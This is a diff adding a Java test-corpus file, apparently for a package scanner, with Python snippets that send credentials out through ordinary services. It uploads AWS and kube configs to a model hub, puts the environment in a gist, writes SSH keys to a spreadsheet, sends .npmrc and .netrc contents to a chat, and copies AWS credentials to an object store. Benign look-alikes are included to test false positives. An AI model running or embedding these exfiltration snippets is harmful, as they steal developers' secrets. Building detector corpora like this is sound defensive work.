@@ -1,0 +1,73 @@
+package cordon.inspect.corpus;
+
+import java.util.List;
+
+/** Services where the package signs in with an account of its own, and what it leaves there. */
+final class PythonServices {
+  private PythonServices() {}
+
+  static List<Sample> all() {
+    return List.of(
+        Sample.imported(
+            "keys are uploaded to a hub of models",
+            """
+            from pathlib import Path
+            from huggingface_hub import HfApi
+            api = HfApi(token='hf_inert')
+            for p in (Path.home() / '.aws' / 'credentials', Path.home() / '.kube' / 'config'):
+                api.upload_file(path_or_fileobj=str(p), path_in_repo=p.name, repo_id='inert/drop')
+            """),
+        Sample.imported(
+            "a gist holds the environment",
+            """
+            import json, os
+            from github import Github, InputFileContent
+            text = json.dumps(dict(os.environ))
+            Github('inert').get_user().create_gist(False, {'a.txt': InputFileContent(text)})
+            """),
+        Sample.imported(
+            "a sheet gets a row for each key",
+            """
+            import glob, os, gspread
+            sheet = gspread.service_account_from_dict({}).open('a').sheet1
+            for path in glob.glob(os.path.expanduser('~/.ssh/id_*')):
+                sheet.append_row([path, open(path).read()])
+            """),
+        Sample.imported(
+            "a chat gets a file of passwords",
+            """
+            import subprocess
+            from slack_sdk import WebClient
+            text = subprocess.run('env; cat ~/.npmrc ~/.netrc', shell=True, capture_output=True).stdout
+            WebClient(token='inert').files_upload_v2(channel='C0', content=text.decode())
+            """),
+        Sample.imported(
+            "an object store gets an archive",
+            """
+            import os
+            from minio import Minio
+            store = Minio('store.example', access_key='inert', secret_key='inert')
+            store.fput_object('b', 'k', os.path.expanduser('~/.aws/credentials'))
+            """));
+  }
+
+  static List<Sample> lookAlikes() {
+    return List.of(
+        Sample.imported(
+            "a release is made with the token of the pipeline",
+            """
+            import os
+            from github import Github
+            repo = Github(os.environ.get('GITHUB_TOKEN')).get_repo('sample/sample')
+            repo.create_file('CHANGES', 'notes', 'what is new')
+            """),
+        Sample.imported(
+            "a store is opened with the keys of its user",
+            """
+            import os
+            from minio import Minio
+            store = Minio('store.example', secret_key=os.environ.get('AWS_SECRET_ACCESS_KEY'))
+            store.put_object('b', 'k', 'text')
+            """));
+  }
+}
